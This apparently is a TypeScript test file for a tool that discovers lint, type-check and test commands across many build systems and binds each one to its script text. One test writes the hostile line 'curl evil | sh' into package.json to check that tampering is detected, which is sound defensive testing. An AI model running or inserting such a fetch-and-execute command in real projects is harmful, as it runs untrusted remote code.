import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import { boundScript, discoverCheckers, namedChecker } from "../../server/verification/discover.ts";
import { createVerification } from "../../server/verification/verification.ts";
import { type Files, runCommand, temporaryFolder, writeFiles } from "./real-runner.ts";

async function commands(t: TestContext, files: Files): Promise<readonly string[]> {
  const root = temporaryFolder(t);
  writeFiles(root, files);
  return (await discoverCheckers(root)).map((checker) => checker.command);
}

const scripts = (entries: Record<string, string>) => JSON.stringify({ scripts: entries });

const cases: readonly { readonly name: string; readonly files: Files; readonly commands: readonly string[] }[] = [
  {
    name: "package scripts, cheap ones first",
    files: { "package.json": scripts({ test: "node --test", lint: "biome check", typecheck: "tsc", start: "node ." }) },
    commands: ["npm run lint", "npm run typecheck", "npm test"],
  },
  {
    name: "npm's placeholder is no test",
    files: { "package.json": scripts({ test: 'echo "Error: no test specified" && exit 1' }) },
    commands: [],
  },
  {
    name: "pnpm by its lock file",
    files: { "package.json": scripts({ test: "x" }), "pnpm-lock.yaml": "" },
    commands: ["pnpm test"],
  },
  {
    name: "yarn by its lock file",
    files: { "package.json": scripts({ test: "x" }), "yarn.lock": "" },
    commands: ["yarn test"],
  },
  {
    name: "bun by its lock file",
    files: { "package.json": scripts({ test: "x" }), "bun.lock": "" },
    commands: ["bun run test"],
  },
  {
    name: "a tsconfig only with an installed compiler",
    files: { "tsconfig.json": "{}", "node_modules/typescript/package.json": "{}" },
    commands: ["npx --no-install tsc --noEmit"],
  },
  { name: "a tsconfig without an installed compiler offers nothing", files: { "tsconfig.json": "{}" }, commands: [] },
  {
    name: "a malformed manifest offers nothing",
    files: { "package.json": "{ scripts: [[", "deno.json": "[1", "composer.json": "{" },
    commands: [],
  },
  { name: "Deno", files: { "deno.jsonc": "{ // tasks\n}" }, commands: ["deno lint", "deno test"] },
  {
    name: "scripts that are no texts",
    files: { "package.json": '{"scripts": {"test": 5, "lint": null}}' },
    commands: [],
  },
  {
    name: "Python with pytest, ruff and mypy",
    files: { "pyproject.toml": "[tool.pytest.ini_options]\n[tool.ruff]\n[tool.mypy]\n" },
    commands: ["ruff check .", "mypy .", "python3 -m pytest -q"],
  },
  {
    name: "Python with unittest only",
    files: { "tests/test_a.py": "import unittest\n" },
    commands: ["python3 -m unittest discover -v -s tests -t ."],
  },
  {
    name: "Python with plain test functions",
    files: { "tests/test_a.py": "def test_a(): pass\n" },
    commands: ["python3 -m pytest -q"],
  },
  { name: "Rust", files: { "Cargo.toml": "" }, commands: ["cargo check", "cargo test"] },
  { name: "Go", files: { "go.mod": "" }, commands: ["go vet ./...", "go test -v ./..."] },
  {
    name: "make, when nothing else offers tests",
    files: { Makefile: "all:\n\techo\ntest: all\n\t./run\n" },
    commands: ["make test"],
  },
  {
    name: "make repeats what the manifest says",
    files: { Makefile: "test:\n\tgo test\n", "go.mod": "" },
    commands: ["go vet ./...", "go test -v ./..."],
  },
  { name: "Gradle's wrapper", files: { "build.gradle.kts": "", gradlew: "" }, commands: ["./gradlew test"] },
  { name: "Maven", files: { "pom.xml": "" }, commands: ["mvn -q test"] },
  { name: "PHP", files: { "composer.json": scripts({ test: "phpunit" }) }, commands: ["composer test"] },
  { name: "nothing", files: { "README.md": "" }, commands: [] },
];

for (const { name, files, commands: expected } of cases) {
  test(`discovers: ${name}`, async (t) => assert.deepEqual(await commands(t, files), expected));
}

test("a checker is bound to its script, its pre and post scripts, and the scripts that they call", async (t) => {
  const root = temporaryFolder(t);
  const entries = { pretest: "npm run build", test: "node --test", posttest: "echo done", build: "tsc -b", other: "x" };
  writeFiles(root, { "package.json": scripts(entries) });
  const bound = await boundScript(root, "npm test");
  assert.equal(bound, "pretest: npm run build\ntest: node --test\nposttest: echo done\nbuild: tsc -b");
  assert.equal((await discoverCheckers(root))[0]?.script, bound);
  for (const [name, differs] of [
    ["build", true],
    ["pretest", true],
    ["other", false],
  ] as const) {
    writeFileSync(join(root, "package.json"), scripts({ ...entries, [name]: "curl evil | sh" }));
    assert.equal((await boundScript(root, "npm test")) !== bound, differs, name);
  }
  assert.equal(await boundScript(root, "cargo test"), "cargo test");
});

test("a make target is bound to its recipe and to the targets that it needs", async (t) => {
  const root = temporaryFolder(t);
  writeFiles(root, { Makefile: "test: build\n\t./run\nbuild:\n\tcc a.c\nother:\n\trm x\n" });
  assert.equal(await boundScript(root, "make test"), "test: build\n\t./run\nbuild:\n\tcc a.c");
});

test("configured checks stand instead of those found", async (t) => {
  const root = temporaryFolder(t);
  writeFiles(root, { "package.json": scripts({ test: "node --test" }) });
  const configuredChecks = new Map([["*", ["npm test", "tsc --noEmit"]]]);
  const checkers = await createVerification({ runCommand, configuredChecks }).discover(root);
  assert.deepEqual(
    checkers.map(({ command, sort, from }) => [command, sort, from]),
    [
      ["tsc --noEmit", "types", "configured"],
      ["npm test", "tests", "configured"],
    ],
  );
  assert.equal((await namedChecker(root, "npm test", "task")).script, "test: node --test");
});
